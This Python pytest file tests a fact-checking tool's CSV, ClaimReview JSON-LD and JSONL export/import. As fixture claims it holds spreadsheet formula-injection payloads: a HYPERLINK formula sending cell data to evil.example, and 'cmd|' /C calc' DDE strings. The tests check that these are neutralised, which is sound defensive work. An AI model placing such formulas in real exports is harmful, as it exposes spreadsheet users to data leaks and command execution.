"""Verdict export and import: CSV, ClaimReview JSON-LD, JSONL dump/import."""

from __future__ import annotations

import json
import re
from datetime import datetime, timedelta

import pandas as pd
import pytest
import sqlalchemy as sa
from jsonschema import Draft202012Validator

from factcheck.config import Settings
from factcheck.db.store import Store, archive, claims, evidence_links, passages, sources, to_row, verdicts
from factcheck.errors import InputError, NotFoundError
from factcheck.io import claimreview, verdict_csv
from factcheck.ml.embedder import Embedder
from factcheck.models import (
    ArchiveCheck,
    Article,
    Claim,
    ClaimStatus,
    ClaimType,
    KeyValue,
    Passage,
    Sentence,
    Source,
    ValueKind,
)
from factcheck.services import dump as fc_dump
from factcheck.services import export, review
from factcheck.workspace import Workspace

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
CLAIM_TEXTS = [
    HYPERLINK,
    "-5% growth",
    'Officials said, "jobs rose by 9 million"\nacross the country, with 12% more wages.',
    "Größe: 10 € — 😀 über alles, «quoted»",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 555 0100 is the hotline",
    "\tTabbed claim text",
    "A claim nobody reviewed yet.",
    "A claim that was dismissed.",
]


def _article_with(texts: list[str], aid: str, title: str, url: str | None) -> tuple[
    Article, list[Sentence], list[Claim]
]:
    body, spans = "", []
    for t in texts:
        start = len(body)
        body += t
        spans.append((start, len(body)))
        body += " "
    art = Article(id=aid, title=title, url=url, published="March 3, 2025", text=body)
    sents = [Sentence(article_id=aid, index=i, start=s, end=e, text=body[s:e], score=0.5)
             for i, (s, e) in enumerate(spans)]
    cls = []
    for i, (s, e) in enumerate(spans):
        text = body[s:e]
        kvs = []
        m = re.search(r"\d+%", text)
        if m:
            kvs.append(KeyValue(kind=ValueKind.percent, text=m.group(), start=s + m.start(),
                                end=s + m.end(), value=float(m.group()[:-1]), unit="%",
                                normalized=f"{m.group()[:-1]} %"))
        cls.append(Claim(article_id=aid, sentence_index=i, start=s, end=e, text=text,
                         type=ClaimType.quantity if kvs else ClaimType.other,
                         score=0.123456789 * (i + 1), speaker="Jane Doe" if i == 2 else None,
                         key_values=kvs))
    return art, sents, cls


def populate(ws: Workspace) -> dict:
    """A realistic small database: tricky texts, verdicts, links, history, archive."""
    art, sents, cls = _article_with(CLAIM_TEXTS, "art-1", 'Economy, "the numbers" & more',
                                    "https://news.example/economy?id=1&x=2")
    saved = ws.store.save_extraction(art, sents, cls)
    art2, sents2, cls2 = _article_with(["The Pentagon said 40% of contracts changed."], "art-2",
                                       "Defense", None)
    cls2[0] = cls2[0].model_copy(update={"speaker": "U.S. Department of Defense"})
    saved2 = ws.store.save_extraction(art2, sents2, cls2)
    src_text = "Official data: growth was -5% in 2024.\nJobs rose by 9 million, a record."
    src = Source(id="src-1", url="https://stats.example/report", title="Stats", text=src_text)
    src2 = Source(id="src-2", url=None, title="Memo", text="An internal memo | with a pipe.")
    cut = src_text.index("Jobs")
    with ws.store.begin() as conn:
        conn.execute(sa.insert(sources), [to_row(src), to_row(src2)])
        pids = []
        for p in (Passage(source_id="src-1", index=0, start=0, end=cut - 1, text=src_text[:cut - 1]),
                  Passage(source_id="src-1", index=1, start=cut, end=len(src_text),
                          text=src_text[cut:]),
                  Passage(source_id="src-2", index=0, start=0, end=len(src2.text), text=src2.text)):
            pids.append(conn.execute(sa.insert(passages).values(to_row(p, drop_none_keys=["id"])))
                        .inserted_primary_key[0])
        conn.execute(sa.insert(archive), [to_row(ArchiveCheck(
            id="arch-1", seq=1, claim="Unemployment hit 3.5%", verdict="False",
            url="https://checks.example/1", date="2024-05-01"))])
    ids = [c.id for c in saved]
    labels = ["False", "Mostly true", "Half true", "True", "Unverifiable", "Not check-worthy",
              "Mostly false"]
    for cid, label in zip(ids[:7], labels):
        review.set_verdict(ws, cid, label, "alice", f"Because, \"{label}\";\nsee sources.",
                           links=[(pids[0], "refutes"), (pids[1], "supports")] if cid == ids[2] else [])
    review.link_evidence(ws, ids[1], pids[2], "context", "bob", note="memo")
    review.set_verdict(ws, saved2[0].id, "True", "bob", "Confirmed by the memo.")
    review.dismiss_claim(ws, ids[8], "bob", reason="not a claim")
    return {"ids": ids, "pids": pids, "other": saved2[0].id}


@pytest.fixture
def data(fake_ws):
    return populate(fake_ws)


@pytest.fixture
def make_ws(new_db_url, tmp_path, fake_model):
    """Factory of further workspaces on fresh databases of the same backend as `fake_ws`."""
    stores = []

    def make(**settings_kw) -> Workspace:
        url = new_db_url()
        settings = Settings(db=url.removeprefix("sqlite:///"),
                            index_dir=tmp_path / f"idx{len(stores)}", **settings_kw)
        store = Store(settings.url)
        stores.append(store)
        return Workspace(settings, store=store,
                         embedder=Embedder("fake-hash", store, loader=lambda _n: fake_model))

    yield make
    for store in stores:
        store.dispose()


# ---------------------------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------------------------
ISSUE_COLUMNS = [
    "claim_id", "article_id", "article_title", "article_url", "claim_text", "start", "end", "type",
    "speaker", "key_values", "checkworthiness", "status", "verdict", "rationale", "evidence",
    "reviewer", "reviewed_at",
]


def test_columns_are_the_model_fields_in_issue_order():
    assert list(verdict_csv.COLUMNS) == list(verdict_csv.ExportRow.model_fields) == ISSUE_COLUMNS
    doc = verdict_csv.columns_doc()
    for col in ISSUE_COLUMNS:
        assert f"| `{col}` |" in doc
    assert all(f.description for f in verdict_csv.ExportRow.model_fields.values())


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("-5% growth", "'-5% growth"),  # spreadsheets show #NAME? for it: OWASP as written
        ("-5%", "'-5%"),
        ("+3.2", "'+3.2"),
        ("-1,000 jobs lost in May", "'-1,000 jobs lost in May"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("-5 +A1", "'-5 +A1"),
        ("-5% growth =1+1", "'-5% growth =1+1"),
        ("-5%\n=1+1", "'-5%\n=1+1"),
        ("- a bullet", "'- a bullet"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\rx", "'\rx"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_neutralise(cell, expected):
    assert verdict_csv.neutralise(cell) == expected


def _read(path, **kw) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False, **kw)


def test_csv_reads_back_with_pandas(fake_ws, data, tmp_path):
    path = tmp_path / "verdicts.csv"
    report = export.export_csv(fake_ws, path)
    assert report.written == 9  # 8 + 1 claims, the dismissed one left out
    df = _read(path)
    assert list(df.columns) == ISSUE_COLUMNS
    expected = [
        ["" if v is None else verdict_csv.neutralise(v) if isinstance(v, str) else str(v) for v in row]
        for row in export.csv_rows(fake_ws)
    ]
    assert df.values.tolist() == expected
    # the same file read with pandas' defaults gives numbers back as numbers
    typed = pd.read_csv(path, keep_default_na=False)
    assert typed["claim_id"].dtype.kind == "i" and typed["checkworthiness"].dtype.kind == "f"
    assert typed["checkworthiness"].tolist()[:2] == [0.1235, 0.2469]

    by_id = df.set_index("claim_id")
    ids = [str(i) for i in data["ids"]]
    assert by_id.loc[ids[0], "claim_text"] == "'" + HYPERLINK  # inert
    assert by_id.loc[ids[1], "claim_text"] == "'-5% growth"  # inert: a spreadsheet shows #NAME? otherwise
    assert by_id.loc[ids[2], "claim_text"] == CLAIM_TEXTS[2]  # comma, quotes, newline
    assert by_id.loc[ids[3], "claim_text"] == CLAIM_TEXTS[3]  # unicode
    assert by_id.loc[ids[4], "claim_text"].startswith("'@")
    assert by_id.loc[ids[5], "claim_text"] == "'+1 555 0100 is the hotline"
    assert by_id.loc[ids[6], "claim_text"] == "'\tTabbed claim text"
    assert by_id.loc[ids[0], "article_title"] == 'Economy, "the numbers" & more'
    assert by_id.loc[ids[0], "rationale"] == 'Because, "False";\nsee sources.'
    assert by_id.loc[ids[2], "key_values"] == "percent: 12% (12 %)"
    assert by_id.loc[ids[2], "speaker"] == "Jane Doe"
    assert by_id.loc[ids[7], "verdict"] == "" and by_id.loc[ids[7], "reviewer"] == ""
    assert ids[8] not in by_id.index


def test_csv_evidence_cell(fake_ws, data, tmp_path):
    path = tmp_path / "v.csv"
    export.export_csv(fake_ws, path)
    by_id = _read(path).set_index("claim_id")
    cell = by_id.loc[str(data["ids"][2]), "evidence"]
    links = [line.split(" | ", 2) for line in cell.split("\n")]
    assert links == [
        ["https://stats.example/report", "refutes", "Official data: growth was -5% in 2024."],
        ["https://stats.example/report", "supports", "Jobs rose by 9 million, a record."],
    ]
    memo = by_id.loc[str(data["ids"][1]), "evidence"].split(" | ", 2)
    assert memo == ["source:src-2", "context", "An internal memo | with a pipe."]


def test_csv_reviewed_at_is_iso_utc(fake_ws, data, tmp_path):
    path = tmp_path / "v.csv"
    export.export_csv(fake_ws, path)
    df = _read(path).set_index("claim_id")
    cid = data["ids"][0]
    stamp = df.loc[str(cid), "reviewed_at"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", stamp)
    saved = review.get_verdict(fake_ws, cid).created_at
    parsed = datetime.fromisoformat(stamp.replace("Z", "+00:00"))
    assert abs(parsed - saved) < timedelta(seconds=1) and parsed.tzinfo is not None


def test_csv_is_rfc4180_and_excel_bom(fake_ws, data, tmp_path):
    plain = export.csv_bytes(fake_ws)
    excel = export.csv_bytes(fake_ws, excel=True)
    assert not plain.startswith(b"\xef\xbb\xbf")
    assert excel == b"\xef\xbb\xbf" + plain
    assert plain.startswith(b"claim_id,article_id,")
    assert plain.split(b"\n")[0].endswith(b"\r")  # CRLF record separator
    assert "Größe".encode() in plain
    path = tmp_path / "x.csv"
    export.export_csv(fake_ws, path, excel=True)
    assert path.read_bytes() == excel
    assert list(_read(path).columns)[0] == "claim_id"  # pandas drops the BOM


def test_csv_filters(fake_ws, data, tmp_path):
    only = export.csv_bytes(fake_ws, article_id="art-2").decode()
    df = _read(__import__("io").StringIO(only))
    assert df["claim_id"].tolist() == [str(data["other"])]
    done = _read(__import__("io").BytesIO(export.csv_bytes(fake_ws, status="done")))
    assert set(done["status"]) == {"done"} and len(done) == 8
    dismissed = _read(__import__("io").BytesIO(export.csv_bytes(fake_ws, status="dismissed")))
    assert dismissed["claim_id"].tolist() == [str(data["ids"][8])]
    with pytest.raises(InputError, match="unknown status 'finished'"):
        export.export_csv(fake_ws, tmp_path / "x.csv", status="finished")
    with pytest.raises(NotFoundError, match="no article 'nope'"):
        export.export_csv(fake_ws, tmp_path / "x.csv", article_id="nope")
    assert not (tmp_path / "x.csv").exists()


def test_csv_write_is_atomic(fake_ws, data, tmp_path, monkeypatch):
    path = tmp_path / "v.csv"
    path.write_text("previous export\n")

    def broken(ws, where):
        yield (1,) * len(verdict_csv.COLUMNS)
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(export, "_csv_rows", broken)
    with pytest.raises(RuntimeError):
        export.export_csv(fake_ws, path)
    assert path.read_text() == "previous export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".v.csv")] == []
    with pytest.raises(InputError, match="does not exist"):
        export.export_csv(fake_ws, tmp_path / "missing" / "v.csv")


# ---------------------------------------------------------------------------------------------
# ClaimReview
# ---------------------------------------------------------------------------------------------
_THING = {"type": "object", "required": ["@type", "name"],
          "properties": {"@type": {"enum": ["Person", "Organization"]},
                         "name": {"type": "string", "minLength": 1},
                         "url": {"type": "string", "format": "uri"}}}
CLAIMREVIEW_SCHEMA = {
    # Written from https://schema.org/ClaimReview and Google's ClaimReview structured-data field
    # list (required: claimReviewed, reviewRating.alternateName, url, author; recommended:
    # itemReviewed with author/datePublished/appearance, datePublished, rating numbers).
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "type": "array",
    "items": {
        "type": "object",
        "required": ["@context", "@type", "claimReviewed", "reviewRating", "itemReviewed",
                     "author", "datePublished", "url"],
        "additionalProperties": False,
        "properties": {
            "@context": {"const": "https://schema.org"},
            "@type": {"const": "ClaimReview"},
            "claimReviewed": {"type": "string", "minLength": 1},
            "url": {"type": "string", "pattern": "^https?://"},
            "datePublished": {"type": "string", "pattern": r"^\d{4}-\d\d-\d\d"},
            "reviewBody": {"type": "string"},
            "author": {"allOf": [_THING, {"properties": {"@type": {"const": "Organization"}},
                                          "required": ["url"]}]},
            "reviewRating": {
                "type": "object",
                "required": ["@type", "alternateName"],
                "additionalProperties": False,
                "properties": {
                    "@type": {"const": "Rating"},
                    "alternateName": {"type": "string", "minLength": 1},
                    "ratingValue": {"type": "integer"},
                    "bestRating": {"type": "integer"},
                    "worstRating": {"type": "integer"},
                },
                "dependentRequired": {"ratingValue": ["bestRating", "worstRating"]},
            },
            "itemReviewed": {
                "type": "object",
                "required": ["@type"],
                "additionalProperties": False,
                "properties": {
                    "@type": {"const": "Claim"},
                    "author": _THING,
                    "datePublished": {"type": "string", "pattern": r"^\d{4}-\d\d-\d\d$"},
                    "appearance": {
                        "type": "object",
                        "required": ["@type", "url"],
                        "properties": {"@type": {"const": "CreativeWork"},
                                       "url": {"type": "string", "pattern": "^https?://"},
                                       "headline": {"type": "string"}},
                    },
                },
            },
        },
    },
}


def test_claimreview_validates_and_maps_the_scale(fake_ws, data, tmp_path):
    path = tmp_path / "checks.jsonld"
    report = export.export_claimreview(fake_ws, path, publisher="Desk",
                                       publisher_url="https://desk.example/")
    assert (report.written, report.skipped_without_verdict) == (8, 1)
    objs = json.loads(path.read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(CLAIMREVIEW_SCHEMA)
    errors = list(Draft202012Validator(CLAIMREVIEW_SCHEMA).iter_errors(objs))
    assert errors == []
    by_text = {o["claimReviewed"]: o for o in objs}
    assert set(by_text) == set(CLAIM_TEXTS[:7]) | {"The Pentagon said 40% of contracts changed."}
    ratings = {o["reviewRating"]["alternateName"]: o["reviewRating"] for o in objs}
    assert ratings["True"]["ratingValue"] == 5 and ratings["False"]["ratingValue"] == 1
    assert ratings["Mostly true"]["ratingValue"] == 4 and ratings["Half true"]["ratingValue"] == 3
    assert ratings["Mostly false"]["ratingValue"] == 2
    assert {r["bestRating"] for r in ratings.values() if "ratingValue" in r} == {5}
    assert {r["worstRating"] for r in ratings.values() if "ratingValue" in r} == {1}
    assert "ratingValue" not in ratings["Unverifiable"]
    assert "ratingValue" not in ratings["Not check-worthy"]

    quoted = by_text[CLAIM_TEXTS[2]]
    assert quoted["itemReviewed"]["author"] == {"@type": "Person", "name": "Jane Doe"}
    assert quoted["itemReviewed"]["datePublished"] == "2025-03-03"
    assert quoted["itemReviewed"]["appearance"]["url"] == "https://news.example/economy?id=1&x=2"
    assert quoted["url"] == f"https://desk.example#claim-{data['ids'][2]}"
    assert quoted["author"] == {"@type": "Organization", "name": "Desk",
                                "url": "https://desk.example/"}
    assert quoted["reviewBody"] == 'Because, "Half true";\nsee sources.'
    pentagon = by_text["The Pentagon said 40% of contracts changed."]
    assert pentagon["itemReviewed"]["author"]["@type"] == "Organization"
    assert "appearance" not in pentagon["itemReviewed"]  # the article has no URL
    assert CLAIM_TEXTS[3] in path.read_text(encoding="utf-8")  # UTF-8, not \u escapes
    assert export.claimreview_json(fake_ws, publisher="Desk",
                                   publisher_url="https://desk.example/") == path.read_text("utf-8")


def test_claimreview_invalid_output_fails_the_schema():
    bad = [{"@context": "https://schema.org", "@type": "ClaimReview", "claimReviewed": "x",
            "reviewRating": {"@type": "Rating", "ratingValue": 3}, "itemReviewed": {"@type": "Claim"},
            "author": {"@type": "Organization", "name": "D", "url": "https://d.example"},
            "datePublished": "2025-01-01", "url": "https://d.example#1"}]
    assert list(Draft202012Validator(CLAIMREVIEW_SCHEMA).iter_errors(bad))


def test_claimreview_custom_scale_and_options(tmp_path, make_ws):
    scale = tmp_path / "scale.toml"
    scale.write_text('verdicts = ["Correct", "Misleading", "Wrong", "Unproven"]\n')
    ws = make_ws(verdicts=scale)
    art, sents, cls = _article_with(["A is B.", "C is D.", "E is F."], "a", "T", "https://n.example/a")
    ids = [c.id for c in ws.store.save_extraction(art, sents, cls)]
    for cid, label in zip(ids, ["correct", "Wrong", "Unproven"]):
        review.set_verdict(ws, cid, label, "eve")
    objs, skipped = export.claimreview_objects(
        ws, publisher="D", publisher_url="https://d.example",
        url_template="https://d.example/checks/{claim_id}", status="done")
    assert skipped == 0
    assert [o["reviewRating"] for o in objs] == [
        {"@type": "Rating", "ratingValue": 3, "bestRating": 3, "worstRating": 1,
         "alternateName": "Correct"},
        {"@type": "Rating", "ratingValue": 1, "bestRating": 3, "worstRating": 1,
         "alternateName": "Wrong"},
        {"@type": "Rating", "alternateName": "Unproven"},
    ]
    assert objs[0]["url"] == f"https://d.example/checks/{ids[0]}"
    with pytest.raises(InputError, match="bad URL template"):
        export.claimreview_objects(ws, publisher="D", publisher_url="https://d.example",
                                   url_template="https://d.example/{slug}")
    with pytest.raises(InputError, match="--publisher-url"):
        export.claimreview_objects(ws, publisher="D", publisher_url="desk.example")
    with pytest.raises(InputError, match="--publisher"):
        export.claimreview_objects(ws, publisher=" ", publisher_url="https://d.example")


@pytest.mark.parametrize(
    ("text", "iso"),
    [("2025-03-01", "2025-03-01"), ("2025-03-01T10:00:00Z", "2025-03-01"),
     ("March 1, 2025", "2025-03-01"), ("Sat, 01 Mar 2025 10:00:00 GMT", "2025-03-01"),
     ("1 March 2025", "2025-03-01"), ("last Tuesday", None), (None, None), ("", None)],
)
def test_iso_date(text, iso):
    assert claimreview.iso_date(text) == iso


# ---------------------------------------------------------------------------------------------
# JSONL dump and import
# ---------------------------------------------------------------------------------------------
def _sorted_lines(path) -> list[bytes]:
    return sorted(path.read_bytes().splitlines(keepends=True))


def test_dump_import_dump_is_identical(fake_ws, data, tmp_path, make_ws):
    ids = data["ids"]  # assignments and blind second reviews travel too
    review.assign_claims(fake_ws, [ids[7]], "carol", "alice")
    review.request_second_reviews(fake_ws, [ids[0], ids[3]], "alice")
    review.set_verdict(fake_ws, ids[3], "Half true", "carol", "Second look.")  # the second verdict
    first = tmp_path / "dump.jsonl"
    report = fc_dump.export_jsonl(fake_ws, first)
    lines = first.read_text(encoding="utf-8").splitlines()
    assert report.written == len(lines) - 1
    tables = {json.loads(line)["table"] for line in lines}
    assert tables == {"meta", *fc_dump.DUMP_TABLES}
    assert "😀" in first.read_text(encoding="utf-8")

    empty = make_ws()
    result = fc_dump.import_jsonl(empty, first)
    assert result.ok and result.conflicts == [] and result.updated == 0
    assert result.added == report.written
    second = tmp_path / "dump2.jsonl"
    fc_dump.export_jsonl(empty, second)
    assert _sorted_lines(second) == _sorted_lines(first)
    assert fc_dump.jsonl_text(empty) == second.read_text(encoding="utf-8")
    # history came across: review events carry verdict, rationale, reviewer and time
    verdict_events = [json.loads(x) for x in lines if '"table": "review_events"' in x
                      and '"kind": "verdict"' in x]
    assert verdict_events and all(
        {"label", "rationale"} <= set(e["data"]) and e["reviewer"] and e["at"].endswith("Z")
        for e in verdict_events)

    again = fc_dump.import_jsonl(empty, first)  # importing twice adds nothing
    assert (again.added, again.updated, again.conflicts) == (0, 0, [])
    assert again.skipped_same == report.written


def test_import_failing_after_its_inserts_commits_nothing(fake_ws, data, tmp_path, make_ws, monkeypatch):
    """The import is one transaction: a failure at its very end, after every table's rows were
    inserted, leaves the target database as it was."""
    dump = tmp_path / "dump.jsonl"
    report = fc_dump.export_jsonl(fake_ws, dump)
    target = make_ws()

    def fail(_conn):
        raise RuntimeError("connection lost")

    monkeypatch.setattr(fc_dump, "_fix_sequences", fail)  # the merge's last step
    with pytest.raises(RuntimeError, match="connection lost"):
        fc_dump.import_jsonl(target, dump)
    tables = (sources, passages, claims, evidence_links, verdicts, archive)
    assert [target.store.count(t) for t in tables] == [0] * len(tables)
    monkeypatch.undo()
    result = fc_dump.import_jsonl(target, dump)  # nothing half-imported gets in the way
    assert result.ok and result.added == report.written


def test_import_merges_into_a_database_with_other_rows(fake_ws, data, tmp_path, make_ws):
    dump = tmp_path / "dump.jsonl"
    fc_dump.export_jsonl(fake_ws, dump)

    other = make_ws()
    # the other desk has its own article, claims, source and passage, taking ids 1..n
    art, sents, cls = _article_with(["Local claim one.", "Local claim two.", "Three.", "Four."],
                                    "local", "Local", None)
    local = other.store.save_extraction(art, sents, cls)
    with other.store.begin() as conn:
        conn.execute(sa.insert(sources).values(to_row(Source(id="loc-src", text="Local source."))))
        lp = conn.execute(sa.insert(passages).values(to_row(Passage(
            source_id="loc-src", index=0, start=0, end=13, text="Local source."),
            drop_none_keys=["id"]))).inserted_primary_key[0]
        conn.execute(sa.insert(archive).values(to_row(ArchiveCheck(id="loc-arch", seq=1, claim="x"))))
    review.set_verdict(other, local[0].id, "True", "carol", links=[(lp, "supports")])
    # ...and already has one of the dump's articles (same content, e.g. from an earlier import)
    src_art = fake_ws.store.get_article("art-2")
    src_claim = fake_ws.store.list_claims(article_id="art-2")[0]
    copied = other.store.save_extraction(src_art, fake_ws.store.get_sentences("art-2"),
                                         [src_claim.model_copy(update={"id": None, "version": 1,
                                                                       "status": ClaimStatus.new})])

    report = fc_dump.import_jsonl(other, dump)
    assert report.ok, report.errors
    assert report.by_table["articles"]["skipped_same"] == 1
    assert report.by_table["claims"]["updated"] == 1  # the dump's art-2 claim is newer
    assert report.conflicts == []

    # no duplicates: every natural key once
    with other.store.engine.connect() as conn:
        spans = conn.execute(sa.select(claims.c.article_id, claims.c.start, claims.c.end)).all()
        assert len(spans) == len(set(spans)) == 4 + 10
        assert conn.execute(sa.select(sa.func.count()).select_from(sources)).scalar() == 3
        assert conn.execute(sa.select(sa.func.count()).select_from(archive)).scalar() == 2
        assert conn.execute(sa.select(sa.func.count()).select_from(verdicts)).scalar() == 1 + 8
    # colliding ids were remapped and references follow the records, not the numbers
    src_ids = data["ids"]
    for old_id in src_ids[:7]:
        old = fake_ws.store.get_claim(old_id)
        [new] = [c for c in other.store.list_claims(article_id="art-1", include_dismissed=True)
                 if (c.start, c.end) == (old.start, old.end)]
        assert new.id != old_id or old_id > len(local)
        assert review.get_verdict(other, new.id).label == review.get_verdict(fake_ws, old_id).label
        assert [e.kind for e in review.history(other, new.id)] == [
            e.kind for e in review.history(fake_ws, old_id)]
    old_links = {(p.text, lk.stance) for lk in review.links_for(fake_ws, src_ids[2])
                 for p in [_passage(fake_ws, lk.passage_id)]}
    [new2] = [c for c in other.store.list_claims(article_id="art-1")
              if c.text == CLAIM_TEXTS[2]]
    new_links = review.links_for(other, new2.id)
    assert {(_passage(other, lk.passage_id).text, lk.stance) for lk in new_links} == old_links
    link_events = [e for e in review.history(other, new2.id) if e.kind == "link"]
    assert {e.data["passage_id"] for e in link_events} == {lk.passage_id for lk in new_links}
    # the local desk's own work is untouched
    assert review.get_verdict(other, local[0].id).reviewer == "carol"
    assert review.get_verdict(other, copied[0].id).reviewer == "bob"
    # new rows after the import get fresh ids (no collision with imported ones)
    review.link_evidence(other, local[1].id, lp, "context", "carol")
    art3, sents3, cls3 = _article_with(["Later claim."], "later", "Later", None)
    [later] = other.store.save_extraction(art3, sents3, cls3)
    assert later.id > max(c.id for c in other.store.list_claims(include_dismissed=True)
                          if c.id != later.id)


def _passage(ws: Workspace, pid: int) -> Passage:
    with ws.store.engine.connect() as conn:
        return Passage.model_validate(dict(
            conn.execute(sa.select(passages).where(passages.c.id == pid)).one()._mapping))


def test_older_verdict_in_dump_is_a_conflict_newer_one_updates(fake_ws, data, tmp_path, make_ws):
    dump = tmp_path / "dump.jsonl"
    fc_dump.export_jsonl(fake_ws, dump)
    target = make_ws()
    fc_dump.import_jsonl(target, dump)
    cid = data["ids"][0]
    # the target moves on: bob re-reviews claim 0 after the dump was taken
    review.set_verdict(target, cid, "Half true", "bob", "new data")
    report = fc_dump.import_jsonl(target, dump)
    assert report.added == 0 and report.updated == 0
    assert len(report.conflicts) == 2  # the claim (version) and its verdict
    [verdict_msg] = [c for c in report.conflicts if "the dump's verdict" in c]
    assert "conflict" in verdict_msg and "'False' by alice" in verdict_msg
    assert "'Half true' by bob" in verdict_msg and re.search(r"dump\.jsonl:\d+:", verdict_msg)
    assert review.get_verdict(target, cid).label == "Half true"  # not overwritten

    # the other way round: the source moves on, its newer dump updates the target
    review.set_verdict(fake_ws, data["ids"][1], "False", "alice", "recheck")
    newer = tmp_path / "newer.jsonl"
    fc_dump.export_jsonl(fake_ws, newer)
    report = fc_dump.import_jsonl(target, newer)
    assert report.by_table["verdicts"]["updated"] == 1
    assert report.by_table["claims"]["updated"] == 1
    assert report.by_table["review_events"]["added"] == 1
    assert review.get_verdict(target, data["ids"][1]).label == "False"
    assert review.get_verdict(target, cid).label == "Half true"


def test_malformed_lines_are_reported_and_the_rest_imported(fake_ws, data, tmp_path, make_ws):
    good = fc_dump.jsonl_text(fake_ws).splitlines()
    claim_line = next(i for i, x in enumerate(good) if x.startswith('{"table": "claims"'))
    bad_record = json.loads(good[claim_line])
    bad_record["start"] = "twelve"
    lines = good[:]
    lines.insert(1, "{not json")
    lines.insert(2, json.dumps({"table": "embeddings", "x": 1}))
    lines.insert(3, json.dumps(["a", "list"]))
    lines.insert(4, json.dumps({"table": "evidence_links", "id": 99, "claim_id": 424242,
                                "passage_id": data["pids"][0], "stance": "supports",
                                "note": None, "reviewer": "x", "created_at": "2025-01-01T00:00:00Z"}))
    lines.append(json.dumps(bad_record))
    lines.append("")
    path = tmp_path / "dump.jsonl"
    path.write_text("\n".join(lines), encoding="utf-8")
    target = make_ws()
    report = fc_dump.import_jsonl(target, path)
    assert not report.ok
    assert len(report.errors) == 5
    assert report.errors[0].startswith(f"{path}:2: not JSON")
    assert report.errors[1].startswith(f"{path}:3: unknown table 'embeddings'")
    assert report.errors[2].startswith(f"{path}:4: expected a JSON object")
    assert report.errors[3].startswith(f"{path}:{len(lines) - 1}: bad claims record, start:")
    assert any(e.startswith(f"{path}:5:") and "claim 424242" in e for e in report.errors)
    # everything else made it
    assert target.store.count(claims) == fake_ws.store.count(claims)
    assert target.store.count(evidence_links) == fake_ws.store.count(evidence_links)


def test_import_refuses_unusable_files(fake_ws, tmp_path):
    empty = tmp_path / "empty.jsonl"
    empty.write_text("\n\n")
    with pytest.raises(InputError, match="file is empty"):
        fc_dump.import_jsonl(fake_ws, empty)
    newer = tmp_path / "newer.jsonl"
    newer.write_text(json.dumps({"table": "meta", "schema_version": 99}) + "\n")
    with pytest.raises(InputError, match="upgrade factcheck"):
        fc_dump.import_jsonl(fake_ws, newer)
    with pytest.raises(InputError, match="cannot read"):
        fc_dump.import_jsonl(fake_ws, tmp_path / "missing.jsonl")
    binary = tmp_path / "bin.jsonl"
    binary.write_bytes(b"\xff\xfe\x00bad")
    with pytest.raises(InputError, match="not UTF-8"):
        fc_dump.import_jsonl(fake_ws, binary)


def test_dangling_parent_is_an_error(fake_ws, tmp_path):
    path = tmp_path / "d.jsonl"
    claim = Claim(id=5, article_id="ghost", sentence_index=0, start=0, end=3, text="abc")
    path.write_text(json.dumps({"table": "claims", **claim.model_dump(mode="json")}) + "\n")
    report = fc_dump.import_jsonl(fake_ws, path)
    assert report.errors == [f"{path}:1: claim refers to article 'ghost', which is in neither the "
                             "dump nor the database"]
    assert fake_ws.store.count(claims) == 0


def test_dump_merges_assignments_and_second_reviews_newest_first(fake_ws, data, tmp_path, make_ws):
    ids = data["ids"]
    review.assign_claims(fake_ws, [ids[7]], "carol", "alice")
    review.request_second_reviews(fake_ws, [ids[0]], "alice")
    dump = tmp_path / "dump.jsonl"
    fc_dump.export_jsonl(fake_ws, dump)
    other = make_ws()
    assert fc_dump.import_jsonl(other, dump).ok
    assert review.assignee_of(other, ids[7]) == "carol"
    assert review.second_review(other, ids[0]).first_label == "False"
    review.assign_claims(other, [ids[7]], "dave", "alice")  # newer than the dump's
    review.set_verdict(other, ids[0], "True", "erin", "Second look.")  # further along
    again = fc_dump.import_jsonl(other, dump)
    assert review.assignee_of(other, ids[7]) == "dave"
    assert review.second_review(other, ids[0]).second_label == "True"
    assert any("assignment to carol is not newer" in c for c in again.conflicts)
    assert any("second review is not further along" in c for c in again.conflicts)
    # and the other way: the further-along record from a dump replaces the stored one
    back = tmp_path / "back.jsonl"
    fc_dump.export_jsonl(other, back)
    assert fc_dump.import_jsonl(fake_ws, back).ok
    assert review.assignee_of(fake_ws, ids[7]) == "dave"
    assert review.second_review(fake_ws, ids[0]).second_label == "True"
